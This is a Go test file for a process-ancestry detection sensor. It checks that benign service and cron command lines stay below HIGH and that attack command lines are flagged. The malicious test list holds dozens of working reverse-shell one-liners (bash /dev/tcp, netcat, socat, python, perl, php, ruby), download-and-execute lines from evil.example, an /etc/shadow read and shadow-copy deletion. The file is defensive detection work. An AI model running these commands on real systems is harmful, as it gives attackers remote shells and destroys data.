package sensor

import (
	"slices"
	"strings"
	"testing"
)

// chain is a parent, a child and the child's arguments. A name is comm, or comm=path of
// the executable where the two differ.
type chain struct{ parent, child, cmdline string }

func (c chain) snapshots() (parent, child *snapshot) {
	read := func(s, cmdline string) *snapshot {
		name, exe, ok := strings.Cut(s, "=")
		if !ok {
			exe = "/usr/bin/" + name
		}
		p := &snapshot{name: name, comm: name, exe: exe, cmdline: cmdline, uid: 33}
		p.index()
		return p
	}
	return read(c.parent, ""), read(c.child, c.cmdline)
}

// matchers are the built-in rules.
func matchers(t *testing.T) []*matcher {
	t.Helper()
	rules, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	var all []*matcher
	for _, r := range rules {
		m := new(matcher)
		if p := r.compile(m); p != nil {
			t.Fatalf("%s: %v", r.ID, p)
		}
		all = append(all, m)
	}
	return all
}

// matching are the IDs of the rules that match, and the highest of their levels as an
// index of levels, -1 for none.
func matching(rules []*matcher, c chain) (ids []string, highest int) {
	parent, child := c.snapshots()
	highest = -1
	for _, m := range rules {
		if m.byName(child, parent) && m.byRest(child) {
			ids = append(ids, m.ID)
			highest = max(highest, slices.Index(levels, m.Level))
		}
	}
	return ids, highest
}

var high = slices.Index(levels, "HIGH")

// What machines do in peace must never be HIGH: the default playbook would kill it.
func TestBuiltinSparesThePeaceful(t *testing.T) {
	rules := matchers(t)
	for _, c := range []chain{
		{"cron", "sh=/usr/bin/dash", `/bin/sh -c curl -fsS https://hc-ping.com/uuid >/dev/null`},
		{"cron", "sh=/usr/bin/dash", `/bin/sh -c wget -qO- https://example.org/install.sh | sh`},
		{"cron", "sh=/usr/bin/dash", `/bin/sh -c   cd / && run-parts --report /etc/cron.hourly`},
		{"crond", "bash", `/bin/bash -c /usr/local/bin/backup`},
		{"sh=/usr/bin/dash", "curl", `curl -fsS https://example.org/`},
		{"apt", "sh=/usr/bin/dash", `sh -c -- /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true`},
		{"apt-get", "sh=/usr/bin/dash", `sh -c test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke || true`},
		{"dpkg", "nginx.postinst=/usr/bin/dash", `/bin/sh /var/lib/dpkg/info/nginx.postinst configure 1.22`},
		{"yum=/usr/bin/python3.9", "sh=/usr/bin/bash", `/bin/sh /var/tmp/rpm-tmp.abc 1`},
		{"java", "sh=/usr/bin/dash", `sh -c git describe --tags`},
		{"java", "sh=/usr/bin/dash", `/bin/sh -xe /tmp/jenkins1234567.sh`},
		{"sh=/usr/bin/dash", "bash", `bash -c curl -fsSL https://sh.rustup.rs | sh -s -- -y`},
		{"runc", "sh=/bin/busybox", `/bin/sh -c curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -`},
		{"runc:[2:INIT]", "sh=/usr/bin/dash", `/bin/sh -c wget -qO- https://get.docker.com | sh`},
		{"postgres", "sh=/usr/bin/dash", `sh -c test ! -f /mnt/wal/0000 && cp pg_wal/0000 /mnt/wal/0000`},
		{"postgres", "sh=/usr/bin/dash", `sh -c wal-g wal-push "pg_wal/000000010000000000000001"`},
		{"postgres", "postgres=/usr/lib/postgresql/15/bin/postgres", `postgres: checkpointer`},
		{"mysqld", "sh=/usr/bin/dash", `sh -c wsrep_sst_rsync --role joiner --address 10.0.0.2`},
		{"redis-sentinel=/usr/bin/redis-server", "notify.sh=/usr/bin/dash", `/bin/sh /etc/redis/notify.sh +sdown`},
		{"nginx", "nginx", `nginx: worker process`},
		{"nginx", "nginx=/usr/sbin/nginx", `nginx: master process /usr/sbin/nginx`},
		{"logrotate", "sh=/usr/bin/dash", `sh -c invoke-rc.d nginx rotate >/dev/null 2>&1`},
		{"sh=/usr/bin/dash", "nginx", `nginx -g daemon off;`},
		{"apache2", "rotatelogs", `/usr/bin/rotatelogs /var/log/apache2/%Y 86400`},
		{"apache2", "gitweb.cgi=/usr/bin/perl", `/usr/bin/perl /usr/share/gitweb/gitweb.cgi`},
		{"apache2", "status.cgi=/usr/bin/dash", `/bin/sh /usr/lib/cgi-bin/status.cgi`},
		{"apache2", "sh=/usr/bin/dash", `sh -c /usr/sbin/sendmail -t -i`},
		{"php-fpm8.2", "sendmail", `/usr/sbin/sendmail -t -i`},
		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c /usr/sbin/sendmail -t -i -f www@example.org`},
		{"php-fpm", "sh=/usr/bin/bash", `sh -c convert '/var/www/a.jpg' -resize 200x '/dev/shm/a.jpg'`},
		{"php-fpm", "sh=/usr/bin/dash", `sh -c id -u`},
		{"httpd", "sh=/usr/bin/bash", `sh -c curl -s https://api.example.org/ping > /dev/null 2>&1 &`},
		{"varnishd", "sh=/usr/bin/dash", `/bin/sh -c exec gcc -fpic -shared -o vgc.so vgc.c`},
		{"sshd", "bash", `-bash`},
		{"sshd", "sh=/usr/bin/dash", `sh -c /usr/lib/openssh/sftp-server`},
		{"sshd", "rsync", `rsync --server -vlogDtpre.iLsfxC . /srv`},
		{"bash", "bash", `bash -i`},
		{"tmux: server", "bash", `-bash`},
		{"make", "sh=/usr/bin/dash", `/bin/sh -c gcc -O2 -c -o x.o x.c`},
		{"git", "ssh", `ssh git@example.org git-upload-pack 'x.git'`},
		{"git", "sh=/usr/bin/dash", `/bin/sh -c test -n "$1" && exec ssh "$@"`},
		{"node", "sh=/usr/bin/dash", `sh -c webpack --mode production`},
		{"systemd", "sh=/usr/bin/dash", `/bin/sh -c /usr/bin/nc -z -w 3 db 5432`},
		{"bash", "nc=/usr/bin/nc.openbsd", `nc -c example.org 443`},
		{"bash", "nc=/usr/bin/nc.traditional", `nc -l -p 8080 -e /usr/local/bin/answer`},
		{"bash", "bash", `bash -c </dev/tcp/db/5432`},
		{"runc", "sh=/usr/bin/bash", `/bin/sh -c exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET /health' >&3; timeout 1 bash -c 'cat <&3'`},
		{"code", "bash", `/bin/bash -ilc env; timeout 1 bash -c '</dev/tcp/localhost/80'`},
		{"bash", "socat", `socat TCP-LISTEN:2222,fork EXEC:"ssh host nc localhost 22"`},
		{"bash", "socat", `socat TCP-LISTEN:80,fork SYSTEM:/srv/handler.sh`},
		{"bash", "socat", `socat UNIX-LISTEN:/run/a.sock TCP:10.0.0.1:80`},
		{"bash", "python3=/usr/bin/python3.11", `python3 -c import socket; socket.create_connection(("db", 5432))`},
		{"bash", "python3=/usr/bin/python3.11", `python3 -c import socket,subprocess; s=socket.socket(); s.connect(("db",1)); subprocess.run(["bash","migrate.sh"])`},
		{"bash", "python3=/usr/bin/python3.11", `python3 -c import pty; pty.spawn("/bin/bash")`},
		{"bash", "perl", `perl -MIO::Socket::INET -e print IO::Socket::INET->new("db:5432") ? 1 : 0`},
		{"bash", "php", `php -r $f = fsockopen("db", 3306); exit($f ? 0 : 1);`},
		{"bash", "bash", `bash -c mkfifo /tmp/p; ./backup.sh > /tmp/p & cat /tmp/p | nc backup 9000`},
		{"waagent=/usr/bin/python3.11", "sh=/usr/bin/dash", `/bin/sh -c echo IyEvYmluL3No | base64 -d | bash`},
		{"bash", "bash", `bash -c curl http://10.0.0.5/bootstrap.sh | sh`},
		{"bash", "bash", `bash -c curl http://100.64.0.7/bootstrap.sh | sh`},
		{"bash", "bash", `bash -c curl http://192.168.1.5:8000/bootstrap.sh | sh`},
		{"soffice.bin", "sh=/usr/bin/dash", `/bin/sh -c lpr -P office`},
		{"soffice.bin", "xdg-open=/usr/bin/dash", `/bin/sh /usr/bin/xdg-open https://curl.se/ -c`},
		{"soffice=/usr/bin/dash", "oosplash", `/usr/lib/libreoffice/program/oosplash`},
		{"wscript.exe", "cmd.exe", `cmd.exe /c net use z: \\server\share`},
		{"explorer.exe", "powershell.exe", `powershell.exe`},
		{"explorer.exe", "winword.exe", `winword.exe letter.docx`},
		{"winword.exe", "splwow64.exe", `splwow64.exe 12288`},
		{"chrome", "chrome", `chrome --type=renderer`},
		{"runc=/memfd:runc_cloned:/proc/self/exe", "sleep", `sleep 1`},
		{"bash", "AppRun=/tmp/.mount_abc/AppRun", `/tmp/.mount_abc/AppRun`},
		{"redis-server=/tmp/redis/redis-server", "redis-server=/tmp/redis/redis-server", `redis-rdb-bgsave`},
		{"mongod=/usr/bin/dash", "sh=/usr/bin/dash", `sh -c ulimit -n 64000; exec /usr/bin/mongod`}, // /etc/init.d/mongod
		{"nginx", "bash", `bash -c ffmpeg -i /rec/a.flv /rec/a.mp4`},                                // exec_record_done of nginx-rtmp
		{"nginx", "sh=/usr/bin/dash", `sh -c id`},                                                   // os.execute of OpenResty
		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c whoami`},
		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c timeout 1 bash -c '</dev/tcp/127.0.0.1/6379'`},
		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c wget -O /tmp/export.zip https://x.example/e.zip && chmod 644 /tmp/export.zip`},
		{"bash", "bash", `bash -c curl https://dl.example.com/agent/7.1.0.2/install.sh | sudo bash`},
		{"bash", "nc=/usr/bin/nc.traditional", `nc -lk -p 8080 -e /bin/sh /srv/health.sh`},
		{"bash", "ncat", `ncat -lk 8080 --sh-exec bash /srv/handler.sh`},
	} {
		if ids, highest := matching(rules, c); highest >= high {
			t.Errorf("%s -> %s: %s\n\tis %s by %v", c.parent, c.child, c.cmdline, levels[highest], ids)
		}
	}
}

func TestBuiltinFindsTheMalicious(t *testing.T) {
	rules := matchers(t)
	for _, c := range []chain{
		{"winword.exe", "powershell.exe", `powershell.exe -nop`},
		{"WINWORD.EXE=/usr/lib/wine/wine64-preloader", "powershell.exe=/usr/lib/wine/wine64-preloader", ``},
		{"EXCEL.EXE", "cmd.exe", `cmd.exe /c calc`},
		{"excel", "mshta", ``},
		{"powerpnt.exe", "wscript.exe", ``},
		{"outlook.exe", "rundll32.exe", ``},
		{"winword.exe", "regsvr32.exe", ``},
		{"eqnedt32.exe", "certutil.exe", ``},
		{`winword.exe=C:\Program Files\WINWORD.EXE`, `x=C:\Windows\System32\PowerShell.exe`, ``},
		{"wscript.exe", "powershell.exe", ``},
		{"mshta.exe", "powershell.exe", ``},
		{"mshta.exe", "cmd.exe", ``},
		{"explorer.exe", "mshta.exe", `"C:\Windows\System32\mshta.exe" http://10.0.0.1/a.hta`},
		{"cmd.exe", "regsvr32.exe", `regsvr32 /s /n /u /i:http://10.0.0.1/a.sct scrobj.dll`},
		{"cmd.exe", "vssadmin.exe", `vssadmin.exe Delete Shadows /All /Quiet`},
		{"traefik", "sh=/usr/bin/dash", `sh -c id`},
		{"nginx", "sh=/usr/bin/dash", `sh -c id;uname -a`},
		{"apache2", "sh=/usr/bin/dash", `sh -c whoami; ls /`},
		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c cat /etc/shadow`},
		{"httpd", "sh=/usr/bin/bash", `sh -c cat /etc/passwd; id`},
		{"apache2", "bash", `bash -i`},
		{"php-fpm8.2", "sh=/usr/bin/dash", `sh -c curl -s http://evil.example/x | bash`},
		{"php-fpm7.4", "sh=/usr/bin/dash", `sh -c echo aWQ= | base64 -d | sh`},
		{"httpd", "sh=/usr/bin/bash", `sh -c cd /tmp; wget http://evil.example/x -O /tmp/x; chmod 777 /tmp/x; /tmp/x`},
		{"postgres", "sh=/usr/bin/dash", `sh -c bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'`},
		{"redis-server", "sh=/usr/bin/dash", `sh -c curl -fsSL http://evil.example/x | sh`},
		{"mongod", "sh=/usr/bin/dash", `sh -c ls`},
		{"apache2", "x=/tmp/x", `/tmp/x`},
		{"php-fpm8.2", "kworker=/dev/shm/.x/kworker", `[kworker]`},
		{"nginx", "a=/memfd:a", ``},
		{"bash", "nc=/usr/bin/nc.traditional", `nc -e /bin/sh 10.0.0.1 4444`},
		{"bash", "nc", `nc -lvnp 4444 -e /bin/bash`},
		{"bash", "ncat", `ncat --ssl --sh-exec /bin/sh 10.0.0.1 443`},
		{"bash", "ncat", `ncat 10.0.0.1 443 -c bash -i`},
		{"sh=/bin/busybox", "nc=/bin/busybox", `nc 10.0.0.1 4444 -e sh`},
		{"sh=/bin/busybox", "busybox", `busybox nc 10.0.0.1 4444 -e /bin/sh`},
		{"sshd", "bash", `bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`},
		{"java", "bash", `bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`},
		{"cron", "sh=/usr/bin/dash", `/bin/sh -c sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5`},
		{"cron", "bash", `bash -c 0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196`},
		{"bash", "bash", `bash -c exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done`},
		{"bash", "bash", `bash -c bash >& /dev/tcp/10.0.0.1/4444 0>&1`},
		{"bash", "bash", `bash -c bash </dev/tcp/10.0.0.1/4444 >&0 2>&0`},
		{"bash", "zsh", `zsh -c zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY`},
		{"bash", "sh=/usr/bin/dash", `sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s; rm /tmp/s`},
		{"bash", "php8.2", `php -r $sock=fsockopen("10.0.0.1",1234);shell_exec("sh <&3 >&3 2>&3");`},
		{"bash", "ruby3.1", `ruby -rsocket -e spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",1234))`},
		{"java", "bash", `bash -c {echo,YmFzaCAtaQ==}|{base64,-d}|{bash,-i}`},
		{"bash", "sh=/usr/bin/dash", `sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f`},
		{"bash", "sh=/usr/bin/dash", `sh -c mknod a p; telnet 10.0.0.1 4444 0<a | /bin/bash 1>a`},
		{"bash", "socat", `socat TCP:10.0.0.1:4444 EXEC:/bin/sh,pty,stderr,setsid,sigint,sane`},
		{"bash", "socat", `socat exec:bash -li,pty,stderr,setsid tcp:10.0.0.1:4444`},
		{"bash", "socat", `socat TCP-LISTEN:4444,fork EXEC:/bin/bash`},
		{"bash", "python3=/usr/bin/python3.11", "python3 -c import socket,subprocess,os;\ns=socket.socket();s.connect((\"10.0.0.1\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"},
		{"apache2", "python3=/usr/bin/python3.11", `python3 -c import socket,pty;s=socket.socket();s.connect(("10.0.0.1",1));pty.spawn("/bin/sh")`},
		{"bash", "perl", `perl -e use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);connect(S,$x);open(STDIN,">&S");exec("/bin/sh -i");`},
		{"bash", "perl", `perl -MIO -e $c=new IO::Socket::INET(PeerAddr,"10.0.0.1:1");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`},
		{"bash", "php8.2", `php -r $sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");`},
		{"bash", "ruby3.1", `ruby -rsocket -e f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`},
		{"bash", "node", `node -e (function(){var net = require("net"),cp = require("child_process"),sh = cp.spawn("/bin/sh", []);})()`},
		{"bash", "lua5.3", `lua5.3 -e local s=require("socket").tcp();s:connect("10.0.0.1",1);os.execute("/bin/sh -i <&3")`},
		{"bash", "gawk", `awk BEGIN {s = "/inet/tcp/0/10.0.0.1/1"; while(42) { do{ s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(1) }}`},
		{"cron", "sh=/usr/bin/dash", `/bin/sh -c (curl -s http://93.184.216.34/sh.sh||wget -q -O- http://93.184.216.34/sh.sh)|bash`},
		{"soffice.bin", "bash", `bash -c id`},
		{"soffice.bin", "sh=/usr/bin/dash", `sh -c curl http://evil.example/x -o /tmp/x`},
		{"soffice.bin", "wget", `wget http://evil.example/x`},
		{"bash", "xmrig", `./xmrig -o pool:3333`},
		{"bash", "kdevtmpfsi=/tmp/kdevtmpfsi", `/tmp/kdevtmpfsi`},
		{"bash", "httpd=/var/tmp/.x/httpd", `./httpd -o stratum+tcp://pool.example:3333`},
	} {
		if ids, highest := matching(rules, c); highest < high {
			t.Errorf("%s -> %s: %s\n\tis not HIGH, only %v match", c.parent, c.child, c.cmdline, ids)
		}
	}
}

// What is MEDIUM must be seen all the same.
func TestBuiltinNotesTheDoubtful(t *testing.T) {
	rules := matchers(t)
	for want, c := range map[string]chain{
		"java-shell":            {"java", "sh=/usr/bin/dash", `sh -c ls`},
		"service-shell":         {"postgres", "sh=/usr/bin/dash", `sh -c cp a b`},
		"cron-download":         {"cron", "sh=/usr/bin/dash", `/bin/sh -c curl -fsS https://hc-ping.com/uuid`},
		"download-shell":        {"bash", "sh=/usr/bin/dash", `sh -c curl -fsSL https://get.example.org | sudo -E bash -`},
		"encoded-shell":         {"bash", "sh=/usr/bin/dash", `sh -c echo aWQ= | base64 --decode | sh`},
		"shared-memory-program": {"bash", "x=/dev/shm/x", `/dev/shm/x`},
		"script-host-shell":     {"wscript.exe", "cmd.exe", `cmd /c dir`},
		"service-tool":          {"php-fpm8.2", "whoami", `whoami`},
		"terminal-spawn":        {"sh", "python3.11", `python3 -c import pty; pty.spawn("/bin/bash")`},
	} {
		ids, highest := matching(rules, c)
		if !slices.Contains(ids, want) || highest != slices.Index(levels, "MEDIUM") {
			t.Errorf("%s: %v match, highest %d", want, ids, highest)
		}
	}
}

// A rule without names would have the arguments of every process read.
func TestBuiltinRulesAreCheapAndComplete(t *testing.T) {
	rules, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rules {
		if len(r.Parent)+len(r.Child)+len(r.Exe) == 0 {
			t.Errorf("%s has no condition on names", r.ID)
		}
		if r.Description == "" || r.Author == "" || len(r.Tags) == 0 {
			t.Errorf("%s lacks a description, an author or tags", r.ID)
		}
	}
}
